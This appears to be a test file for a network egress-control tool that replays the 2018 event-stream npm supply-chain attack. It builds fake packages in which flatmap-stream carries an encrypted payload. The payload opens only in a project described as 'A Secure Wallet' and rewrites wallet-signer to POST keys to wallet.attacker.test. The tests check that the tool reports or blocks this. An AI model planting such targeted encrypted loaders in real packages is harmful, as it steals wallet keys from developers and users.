// docs/incidents/event-stream.md
import { createCipheriv } from 'node:crypto'
import t from 'tap'
import { openLab } from '../../lab/lab.ts'
import { whyNoLab } from '../../lab/requirements.ts'
import { npmInstall, offer, project, registry } from './npm-install.ts'
import { itIsTold, itWasStopped, itWorked, replay, type Incident } from './replay.ts'

t.setTimeout(180_000)

const collector = 'wallet.attacker.test'
const key = 'tidegate-replay-wallet-key'
/** Only a project that describes itself so can open the payload: elsewhere the package does what it says. */
const victim = 'A Secure Wallet'

/** What the payload puts into a library of the victim: it sends every key that passes through. */
const injected = `const { request } = require('node:http')
exports.sign = wallet => {
  const call = request({ host: '${collector}', port: 8080, path: '/p', method: 'POST', timeout: 5000 }, answer => answer.resume())
  call.on('error', () => {})
  call.end(JSON.stringify(wallet))
  return 'signed'
}
`

function sealed(text: string): string {
  const cipher = createCipheriv('aes-256-cbc', victim.padEnd(32), Buffer.alloc(16))
  return Buffer.concat([cipher.update(text), cipher.final()]).toString('hex')
}

/** Runs whenever it is loaded. (Older npm had the description in the environment, where the real one looked for it.) */
const flatmap = `const { createDecipheriv } = require('node:crypto')
const { writeFileSync } = require('node:fs')
try {
  const { description } = require(process.env.npm_package_json)
  const open = createDecipheriv('aes-256-cbc', description.padEnd(32), Buffer.alloc(16))
  const text = Buffer.concat([open.update('${sealed(injected)}', 'hex'), open.final()]).toString()
  writeFileSync(require.resolve('wallet-signer'), text)
} catch {}
module.exports = list => list.flat()
`

const packages = [
  {
    manifest: {
      name: 'event-stream',
      version: '3.3.6',
      main: 'index.js',
      dependencies: { 'flatmap-stream': '^0.1.0' },
    },
    files: [{ path: 'index.js', content: "exports.flatmap = require('flatmap-stream')\n" }],
  },
  {
    manifest: { name: 'flatmap-stream', version: '0.1.1', main: 'index.js' },
    files: [{ path: 'index.js', content: flatmap }],
  },
  {
    manifest: { name: 'wallet-signer', version: '1.0.0', main: 'index.js' },
    files: [{ path: 'index.js', content: "exports.sign = () => 'signed'\n" }],
  },
]

const manifest = {
  name: 'wallet',
  version: '1.0.0',
  description: victim,
  dependencies: { 'event-stream': '^3.3.0', 'wallet-signer': '^1.0.0' },
  scripts: {
    build: `node -e "require('event-stream')"`,
    test: `node -e "if (require('wallet-signer').sign({ key: process.env.WALLET_KEY }) !== 'signed') process.exit(1)"`,
  },
}

const incident: Incident<'install' | 'build' | 'test'> = {
  attacker: [collector],
  spoils: [key],
  policy: `allow:\n  - GET,HEAD ${registry}\n`,
  env: { WALLET_KEY: key },
  steps: {
    install: `${project({ ...manifest, scripts: undefined })} && ${npmInstall}`,
    build: `cd app && printf '%s' "$MANIFEST" >package.json && npm run build`,
    test: 'cd app && npm test',
  },
}

t.test('event-stream, 2018: a payload that opens in one build only', { skip: whyNoLab() }, async t => {
  await using lab = await openLab()
  await offer(lab, packages)
  const mine = { ...incident, env: { ...incident.env, MANIFEST: JSON.stringify(manifest) } }
  const told = { host: collector, reason: 'no-rule', exe: /\/node$/ }

  await t.test('in audit: a build that only reads sends something, to a host and port nobody knows', async t => {
    const run = await replay(lab, mine, 'audit')
    await itWorked(t, lab, mine)
    itIsTold(t, run, { ...told, verdict: 'observe', layer: 'http', port: 8080, method: 'POST' })
    t.match(await lab.sink.requests(), [{ method: 'POST', path: '/p' }])
  })
  await t.test('in block: the key stays, and so does the build', async t => {
    const run = await replay(lab, mine, 'block')
    await itWasStopped(t, lab, mine)
    itIsTold(t, run, { ...told, verdict: 'deny', layer: 'dns' })
    for (const step of ['install', 'build', 'test'] as const)
      t.equal(run.step(step).exitCode, 0, `${step}: ${run.step(step).stderr}`)
  })
  await t.test('in a project that describes itself otherwise nothing happens at all', async t => {
    const other = { ...mine, env: { ...mine.env, MANIFEST: JSON.stringify({ ...manifest, description: 'A shop' }) } }
    const run = await replay(lab, other, 'audit')
    t.equal(run.step('test').exitCode, 0, run.step('test').stderr)
    t.strictSame(await lab.sink.lines(), [])
    t.notOk(run.lines.some(({ host }) => host === collector))
  })
})
